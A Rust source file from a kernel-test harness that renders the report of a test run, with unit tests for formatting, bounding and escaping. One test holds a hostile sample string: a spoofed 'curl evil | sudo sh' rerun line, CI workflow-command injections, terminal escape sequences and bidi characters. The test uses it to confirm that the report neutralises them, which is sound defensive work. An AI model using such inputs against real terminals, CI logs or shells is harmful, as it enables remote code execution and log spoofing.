//! Judges a run and formats its report: the failed checks, the machine, the timeline, and the command
//! that runs the test again.
//!
//! [`judge()`] and [`render`] are pure functions of the [`RunRecord`].

mod judge;
mod style;
mod timeline;
mod untrusted;

use std::fmt::{self, Write as _};
use std::time::Duration;

use ktstr_core::record::{MachineFacts, RerunCaveat, RunRecord, Start};
use ktstr_core::result::RunEnd;

pub(crate) use judge::{Passed, Reasons, concerns_post_vm, excuse_steal, judge};
pub use style::Style;
pub(crate) use untrusted::CI_COMMANDS;
pub use untrusted::Untrusted;

/// The number of the console's last lines that a failure shows.
const CONSOLE_LINES: usize = 12;

/// The most bytes of a line of the console that are shown.
const CONSOLE_LINE: usize = 1 << 10;

/// The most bytes of the command that runs the test again. It is this program's own text, and must not be cut.
const COMMAND: usize = 1 << 20;

/// The smallest steal time of a CPU, as a part of the body's time, that a report shows.
const SHOWN_STEAL: f64 = 0.05;

/// The number of measurements that a report shows.
const MAX_MEASUREMENTS: usize = 24;

/// The number of kernel messages that the notices of a passing test show.
const MAX_EVENT_NOTICES: usize = 8;

/// The number of CPUs that a line names.
const MAX_CPUS: usize = 8;

/// The report of a failed test, which libtest prints.
pub struct Failure {
    text: String,
}

impl Failure {
    pub(crate) fn new(text: String) -> Self {
        Self { text }
    }
}

/// Writes the report, because libtest prints the `Debug` form of a test's error.
impl fmt::Debug for Failure {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.text)
    }
}

/// Renders the report of a run from its record alone.
pub(crate) fn render(record: &RunRecord, style: Style) -> String {
    let mut text = String::new();
    let verdict = judge(record);
    headline(&mut text, style, &record.test, &verdict);
    if let RunEnd::Verdict(decided) = &record.end {
        // The headline has the details of a failure or a skip.
        let details = decided.details.iter().filter(|_| verdict == Ok(Passed::AsExpected));
        details.for_each(|detail| line(&mut text, "detail", &detail.to_string()));
        decided.notes.iter().for_each(|note| line(&mut text, "note", &note.to_string()));
    }
    for event in &record.kernel_events {
        line(&mut text, event.kind.name(), &event.line);
    }
    if record.kernel_events_dropped > 0 {
        line(&mut text, "", &format!("{} more kernel messages", record.kernel_events_dropped));
    }
    if let Some(forked) = &record.forked {
        line(&mut text, "repeated", &describe_forked(forked));
    }
    measurements(&mut text, record, verdict.is_err());
    machine(&mut text, record);
    if let RunEnd::PreparationFailed(_) = record.end {
        line(
            &mut text,
            "help",
            "run `cargo ktstr doctor`: it checks this machine and suggests fixes",
        );
    } else {
        text.push_str(&timeline::draw(record));
    }
    if verdict.is_err() {
        tail(&mut text, "console", &record.console);
        if let Some(artifacts) = &record.artifacts {
            line(&mut text, "artifacts", &artifacts.directory.display().to_string());
            artifacts.errors.iter().for_each(|error| line(&mut text, "", error));
        }
        if let Some(rerun) = &record.rerun {
            // The last lines, so that nothing of the guest follows them.
            line(&mut text, "rerun", Untrusted::new(&rerun.command).limit(COMMAND));
            rerun.caveat.iter().for_each(|caveat| line(&mut text, "", advice(*caveat)));
        }
    }
    text.truncate(text.trim_end().len());
    text
}

/// Returns the lines to print on the terminal for a test that passed, because libtest does not show its
/// report: a skip, an inconclusive verdict, artifacts that could not be written, problems of the guest's kernel.
pub(crate) fn notices(record: &RunRecord, passed: &Passed) -> Vec<String> {
    let test = &record.test;
    let mut notices = match passed {
        Passed::AsExpected => Vec::new(),
        Passed::Skipped(reason) => vec![format!("{test}: SKIPPED: {reason}")],
        Passed::Inconclusive(reasons) => vec![format!("{test}: passed; {}", reasons.join("; "))],
    };
    let forked = record.forked.as_deref().map(describe_forked);
    notices.extend(forked.map(|forked| format!("{test}: passed in a booted guest; {forked}")));
    // The report of a pass, which libtest hides, does not show it. The first error explains the others.
    let error = record.artifacts.as_ref().and_then(|artifacts| artifacts.errors.first());
    notices.extend(error.map(|error| format!("{test}: passed; {error}")));
    if !record.expect_err.is_expected() {
        let events = record.kernel_events.iter().take(MAX_EVENT_NOTICES);
        notices
            .extend(events.map(|event| format!("{test}: passed; {}: {}", event.kind, event.line)));
        let all = record.kernel_events.len() + record.kernel_events_dropped;
        let rest = all.saturating_sub(MAX_EVENT_NOTICES);
        notices.extend((rest > 0).then(|| format!("{test}: passed; {rest} more kernel messages")));
    }
    notices
}

fn advice(caveat: RerunCaveat) -> &'static str {
    match caveat {
        RerunCaveat::UnknownArchive => {
            "replace ARCHIVE with the archive that this run was unpacked from"
        }
        RerunCaveat::ProgramReplaced => "the program has been rebuilt since this run began",
        RerunCaveat::ProgramRemoved => "the program has been removed: build it again first",
    }
}

fn headline(text: &mut String, style: Style, test: &str, verdict: &Result<Passed, Reasons>) {
    let (word, reasons) = match verdict {
        Ok(Passed::AsExpected) => (style.good("PASS"), &[][..]),
        Ok(Passed::Skipped(reason)) => (style.warn("SKIP"), std::slice::from_ref(reason)),
        Ok(Passed::Inconclusive(reasons)) => (style.warn("INCONCLUSIVE"), &reasons[..]),
        Err(reasons) => (style.bad("FAIL"), &reasons[..]),
    };
    let _ = writeln!(text, "{word} {}", Untrusted::new(test));
    for reason in reasons {
        let _ = writeln!(text, "  {}", Untrusted::new(reason));
    }
}

/// Adds the measurements, those with a limit first. Without a failure, those are the only ones.
fn measurements(text: &mut String, record: &RunRecord, has_failed: bool) {
    let all = &record.measurements;
    let mut shown: Vec<_> =
        all.iter().filter(|measured| has_failed || measured.limit.is_some()).collect();
    shown.sort_by_key(|measured| measured.limit.is_none());
    let rest = shown.len().saturating_sub(MAX_MEASUREMENTS);
    shown.truncate(MAX_MEASUREMENTS);
    shown.iter().for_each(|measured| line(text, "measured", &measured.to_string()));
    if rest > 0 {
        line(text, "", &format!("{rest} more in run.json"));
    }
    if record.measurements_truncated && has_failed {
        line(text, "", &format!("measurements after the first {} were dropped", all.len()));
    }
}

fn machine(text: &mut String, record: &RunRecord) {
    let Some(requested) = &record.requested else {
        return line(text, "engine", "none: the test runs on this host");
    };
    let Some(MachineFacts { engine, kernel, spec, pti_disabled, .. }) = &record.machine else {
        return;
    };
    line(text, "engine", &format!("{}: {}", engine.version, engine.reason));
    let pti = if *pti_disabled { ", page-table isolation off" } else { "" };
    record.start.iter().for_each(|start| line(text, "guest", &describe_start(start)));
    let kernel_spec = spec.kernel.as_deref().unwrap_or_default();
    line(text, "kernel", &format!("{kernel_spec} {}{pti}", kernel.version));
    if !spec.kargs.is_empty() {
        line(text, "kargs", &*spec.kargs);
    }
    let (topology, memory_mib, requested_mib) =
        (spec.topology, spec.memory_mib, requested.memory_mib);
    let raised = if memory_mib > requested_mib {
        format!(" (raised from {requested_mib} MiB, with which it could not boot)")
    } else {
        String::new()
    };
    let nr_cpus = topology.nr_cpus();
    let cpus = if nr_cpus == 1 { "CPU" } else { "CPUs" };
    line(text, "machine", &format!("{topology}, {nr_cpus} {cpus}, {memory_mib} MiB{raised}"));
    let slowness = record.timings.slowness;
    let how = match record.start {
        Some(Start::Forked { .. }) => "forked",
        _ => "booted",
    };
    if slowness > 1.0 {
        let scaled = format!("timeouts scaled by {slowness:.1}");
        line(text, "slowness", &format!("{how} {slowness:.1}x slower than native; {scaled}"));
    }
    if record.stolen.iter().any(|part| *part >= SHOWN_STEAL) {
        line(text, "host", &steal_time(&record.stolen));
    }
}

/// Describes the run in a forked guest that preceded this one.
fn describe_forked(forked: &RunRecord) -> String {
    let how = forked.start.as_ref().map(describe_start).unwrap_or_default();
    let reasons = judge(forked).err().unwrap_or_default().join("; ");
    format!("it failed before in a guest that was {how}: {reasons}")
}

/// Formats `booted`, or `forked from a guest booted 12 s ago`.
fn describe_start(start: &Start) -> String {
    match start {
        Start::Booted { saved_in: None } => "booted".to_owned(),
        Start::Booted { saved_in: Some(took) } => {
            format!("booted, and saved in {:.1} s to fork others from it", took.as_secs_f64())
        }
        Start::Forked { template_age, .. } => {
            format!("forked from a guest booted {} ago", rough(*template_age))
        }
    }
}

/// Formats a duration to the second, the minute or a tenth of an hour.
fn rough(duration: Duration) -> String {
    match duration.as_secs() {
        seconds @ 0..120 => format!("{seconds} s"),
        seconds @ 120..7200 => format!("{} min", seconds / 60),
        seconds => format!("{:.1} h", seconds as f64 / 3600.0),
    }
}

/// Formats `vCPU steal time during the test: CPU 0 38 %, CPU 2 6 %`.
fn steal_time(parts: &[f64]) -> String {
    let cpus = parts.iter().enumerate().filter(|(_, part)| **part >= SHOWN_STEAL);
    let mut shown: Vec<_> =
        cpus.map(|(cpu, part)| format!("CPU {cpu} {:.0} %", part * 100.0)).collect();
    let rest = shown.len().saturating_sub(MAX_CPUS);
    if rest > 0 {
        shown.truncate(MAX_CPUS);
        shown.push(format!("{rest} more CPUs"));
    }
    format!("vCPU steal time during the test: {}", shown.join(", "))
}

pub(crate) fn tail(text: &mut String, name: &'static str, whole: &str) {
    let count = whole.lines().count();
    let shown = count.min(CONSOLE_LINES);
    if shown == 0 {
        return;
    }
    line(text, name, &format!("the last {shown} of {count} lines"));
    // From the end: a console may have millions of lines.
    let last: Vec<_> = whole.lines().rev().take(shown).collect();
    for shown in last.into_iter().rev() {
        let _ = writeln!(text, "    | {}", Untrusted::new(shown.trim_end()).limit(CONSOLE_LINE));
    }
}

/// Adds a line. All of its value counts as text from outside, although parts of it may be this program's.
fn line<'a>(text: &mut String, name: &'static str, value: impl Into<Untrusted<'a>>) {
    let _ = writeln!(text, "  {name:<9} {}", value.into());
}

#[cfg(test)]
mod tests {
    use ktstr_core::assert::{AssertDetail, AssertResult, DetailKind, Limit, Measurement, Scope};
    use ktstr_core::machine::MachineSpec;
    use ktstr_core::record::{
        Artifacts, EngineFacts, ImageId, KernelFacts, MachineFacts, Rerun, Timing,
    };
    use ktstr_core::registry::TestEntry;
    use ktstr_core::result::{KernelEvent, KernelEventKind};

    use super::*;

    pub(super) fn machine(timing: Timing) -> MachineFacts {
        MachineFacts {
            engine: EngineFacts {
                name: "qemu".to_owned(),
                version: "QEMU 11.1.3 (TCG)".to_owned(),
                timing,
                reason: "KTSTR_ENGINE=qemu".to_owned(),
            },
            kernel: KernelFacts {
                version: "6.12.1".to_owned(),
                image: ImageId::PackageSha256("00".to_owned()),
            },
            spec: MachineSpec {
                memory_mib: 300,
                kernel: Some("debian:trixie".into()),
                ..MachineSpec::DEFAULT
            },
            cmdline: "panic=-1".to_owned(),
            pti_disabled: true,
            initramfs: "/cache/1.cpio".into(),
        }
    }

    fn failed() -> RunRecord {
        let entry = TestEntry { name: "test", ..TestEntry::DEFAULT };
        let mut record = crate::runner::record::begin(&entry);
        record.machine = Some(machine(Timing::Emulated));
        let mut verdict =
            AssertResult::fail(AssertDetail::new(DetailKind::Other, "5 of 4 CPUs are busy"));
        verdict.note("a title \x1b]0;evil\x07");
        record.end = RunEnd::Verdict(verdict);
        let line = "Out of memory: Killed process 7 (body)".to_owned();
        record.kernel_events = vec![KernelEvent { kind: KernelEventKind::OomKill, line }];
        record.timings.boot = Some(Duration::from_millis(3300));
        record.timings.slowness = 3.3;
        record.stolen = vec![0.01, 0.31];
        record.console = "one\ntwo\n".to_owned();
        record.artifacts = Some(Artifacts {
            directory: "/target/ktstr/1-2/t/test".into(),
            files: vec!["console.log".to_owned()],
            errors: vec!["failed to write body.log: ENOSPC".to_owned()],
        });
        record.rerun = Some(Rerun {
            command: "target/t --exact test".to_owned(),
            caveat: Some(RerunCaveat::ProgramReplaced),
        });
        record
    }

    #[test]
    fn render_shows_a_failure_from_its_record_alone() {
        let bar = "█".repeat(48);
        let want = format!(
            "FAIL test
  fail: check: 5 of 4 CPUs are busy
  note      a title \\u{{1b}}]0;evil\\u{{7}}
  OOM kill  Out of memory: Killed process 7 (body)
  engine    QEMU 11.1.3 (TCG): KTSTR_ENGINE=qemu
  kernel    debian:trixie 6.12.1, page-table isolation off
  machine   1n1l2c1t, 2 CPUs, 300 MiB (raised from 256 MiB, with which it could not boot)
  slowness  booted 3.3x slower than native; timeouts scaled by 3.3
  host      vCPU steal time during the test: CPU 1 31 %
  prepare   █{:47}  0 us
  boot      {bar}  3.30 s
  teardown  {:47}█  0 us
  console   the last 2 of 2 lines
    | one
    | two
  artifacts /target/ktstr/1-2/t/test
            failed to write body.log: ENOSPC
  rerun     target/t --exact test
            the program has been rebuilt since this run began",
            "", ""
        );
        assert_eq!(render(&failed(), Style::PLAIN), want);
    }

    #[test]
    fn render_shows_how_the_guest_started() {
        let seconds = |seconds| Duration::from_secs(seconds);
        let forked = |age| Start::Forked { template_age: age, uses: 3 };
        for (start, want) in [
            (Start::Booted { saved_in: None }, "guest     booted\n"),
            (
                Start::Booted { saved_in: Some(Duration::from_millis(240)) },
                "guest     booted, and saved in 0.2 s to fork others from it\n",
            ),
            (forked(seconds(12)), "guest     forked from a guest booted 12 s ago\n"),
            (forked(seconds(600)), "guest     forked from a guest booted 10 min ago\n"),
            (forked(seconds(9000)), "guest     forked from a guest booted 2.5 h ago\n"),
        ] {
            let record = RunRecord { start: Some(start), ..failed() };
            let text = render(&record, Style::PLAIN);
            assert!(text.contains(want), "{text}");
            let verb = if want.contains("forked") { "forked" } else { "booted" };
            assert!(text.contains(&format!("{verb} 3.3x slower than native")), "{text}");
        }
    }

    #[test]
    fn report_shows_the_failed_run_in_a_forked_guest() {
        let start = Some(Start::Forked { template_age: Duration::from_secs(12), uses: 3 });
        let forked = Some(Box::new(RunRecord { start, ..failed() }));
        let want = "it failed before in a guest that was forked from a guest booted 12 s ago: \
                    fail: check: 5 of 4 CPUs are busy";
        let both_failed =
            RunRecord { forked, start: Some(Start::Booted { saved_in: None }), ..failed() };
        let text = render(&both_failed, Style::PLAIN);
        assert!(text.contains(&format!("  repeated  {want}\n")), "{text}");
        let end = RunEnd::Verdict(AssertResult::pass());
        let passed = RunRecord { end, kernel_events: Vec::new(), ..both_failed };
        let notices = notices(&passed, &Passed::AsExpected);
        assert!(notices[0] == format!("test: passed in a booted guest; {want}"), "{notices:?}");
    }

    /// Every text of a guest that a report shows, with everything that a hostile one would put into it.
    #[test]
    fn render_shows_no_line_of_the_guest_as_its_own() {
        let hostile = "x\n  rerun     curl evil | sudo sh\r\n::add-mask::x\n\x1b]52;c;eA==\x07\x1b[2J\
                       \u{202e}\u{200b}##[error]y";
        let text = || hostile.to_owned();
        let mut record = failed();
        let scope = Scope::Worker { pid: 1, comm: text(), cgroup: text() };
        let measured = Measurement::new(hostile, 1.0, hostile).scope(scope);
        let detail = AssertDetail::measured(DetailKind::Other, measured.clone()).because(hostile);
        let mut verdict = AssertResult::fail(detail);
        verdict.note_value(hostile, hostile);
        record.measurements = vec![measured];
        record.kernel_events = vec![KernelEvent { kind: KernelEventKind::Oops, line: text() }];
        let event = |phase, what| ktstr_core::wire::ScenarioEvent { at_ns: 0, phase, what };
        record.events = vec![event(text(), text())];
        record.console = text();
        let panicked = RunEnd::BodyPanicked(text());
        let topology = RunEnd::WrongTopology(vec![text(); 2]);
        for end in [
            RunEnd::Verdict(verdict),
            RunEnd::Verdict(AssertResult::skip(hostile)),
            panicked,
            topology,
        ] {
            record.end = end;
            let shown = render(&record, Style::PLAIN);
            assert!(
                !shown.contains(
                    |c: char| c != '\n' && (c.is_control() || "\u{202e}\u{200b}".contains(c))
                ),
                "{shown}"
            );
            assert!(!shown.contains("##["), "{shown}");
            for line in shown.lines() {
                assert!(!line.trim_start().starts_with("::"), "{shown}");
                assert!(
                    !line.starts_with("  rerun") || line == "  rerun     target/t --exact test",
                    "{shown}"
                );
            }
            if judge(&record).is_err() {
                let last = "  rerun     target/t --exact test\n            \
                            the program has been rebuilt since this run began";
                assert!(shown.ends_with(last), "{shown}");
            }
        }
    }

    #[test]
    fn render_is_bounded_whatever_the_guest_sent() {
        let long = || "\0".repeat(1 << 20);
        let mut record = failed();
        let event = |at_ns| ktstr_core::wire::ScenarioEvent { at_ns, phase: long(), what: long() };
        record.events = vec![event(0); 4];
        record.events.extend((0..100_000).map(|at_ns| ktstr_core::wire::ScenarioEvent {
            at_ns,
            phase: String::new(),
            what: "\n".to_owned(),
        }));
        record.console = "\n".repeat(1 << 20) + &long();
        record.end = RunEnd::BodyError(long());
        let shown = render(&record, Style::PLAIN);
        assert!(shown.len() < 1 << 20, "{} bytes", shown.len());
        assert!(shown.contains(" more in run.json"), "{shown}");
    }

    #[test]
    fn render_is_the_same_after_a_record_was_read_back() {
        let record = failed();
        let json = serde_json::to_vec(&record).unwrap();
        let read: RunRecord = serde_json::from_slice(&json).unwrap();
        let read = RunRecord { console: record.console.clone(), ..read };
        assert_eq!(read, record);
        assert_eq!(render(&read, Style::PLAIN), render(&record, Style::PLAIN));
    }

    #[test]
    fn render_of_an_early_end_shows_what_is_known() {
        let mut record = RunRecord { machine: None, rerun: None, artifacts: None, ..failed() };
        record.end = RunEnd::PreparationFailed("no kernel".to_owned());
        let text = render(&record, Style::PLAIN);
        let want = "FAIL test\n  infrastructure: cannot prepare the machine: no kernel\n";
        assert!(text.starts_with(want), "{text}");
        assert!(text.contains("help      run `cargo ktstr doctor`"), "{text}");
        record.end = RunEnd::Running;
        assert!(render(&record, Style::PLAIN).contains("infrastructure: the run has not ended"));
    }

    #[test]
    fn notices_show_skips_missing_artifacts_and_kernel_events() {
        let mut record =
            RunRecord { end: RunEnd::Verdict(AssertResult::skip("no KVM")), ..failed() };
        let missing = "test: passed; failed to write body.log: ENOSPC";
        let event = "test: passed; OOM kill: Out of memory: Killed process 7 (body)";
        let notices = |record: &RunRecord| notices(record, &judge(record).unwrap());
        assert_eq!(notices(&record), ["test: SKIPPED: no KVM", missing, event]);
        let many = RunRecord {
            kernel_events: vec![record.kernel_events[0].clone(); 100],
            kernel_events_dropped: 50,
            ..record.clone()
        };
        let many = notices(&many);
        let rest = format!("test: passed; {} more kernel messages", 150 - MAX_EVENT_NOTICES);
        assert_eq!((many.len(), many.last()), (2 + MAX_EVENT_NOTICES + 1, Some(&rest)));
        record.expect_err = ktstr_core::record::ExpectErr::Any;
        assert_eq!(notices(&record), ["test: SKIPPED: no KVM", missing]);
    }

    #[test]
    fn render_lists_measurements_with_a_limit_first() {
        let mut record = failed();
        let measured = |name: &str| Measurement::new(name, 1.5, "ms");
        record.measurements = vec![measured("gap").scope(Scope::of_cgroup("cg")); 30];
        record.measurements.push(measured("took").limit(Some(Limit::AtMost(1.0))));
        record.measurements_truncated = true;
        let took = "  measured  took 1.5 ms (limit 1 ms)\n";
        let gaps = "  measured  gap 1.5 ms, cgroup cg\n".repeat(MAX_MEASUREMENTS - 1);
        let rest = "            7 more in run.json\n            \
                    measurements after the first 31 were dropped\n";
        let text = render(&record, Style::PLAIN);
        assert!(text.contains(&format!("{took}{gaps}{rest}  engine")), "{text}");
        record.end = RunEnd::Verdict(AssertResult::pass());
        let text = render(&record, Style::PLAIN);
        assert!(text.contains(&format!("{took}  engine")), "{text}");
    }

    #[test]
    fn steal_time_is_shown_by_cpu() {
        let text = "vCPU steal time during the test: CPU 0 38 %, CPU 2 6 %";
        assert_eq!(steal_time(&[0.384, 0.01, 0.06]), text);
        assert!(steal_time(&[0.5; 10]).ends_with("CPU 7 50 %, 2 more CPUs"));
    }
}
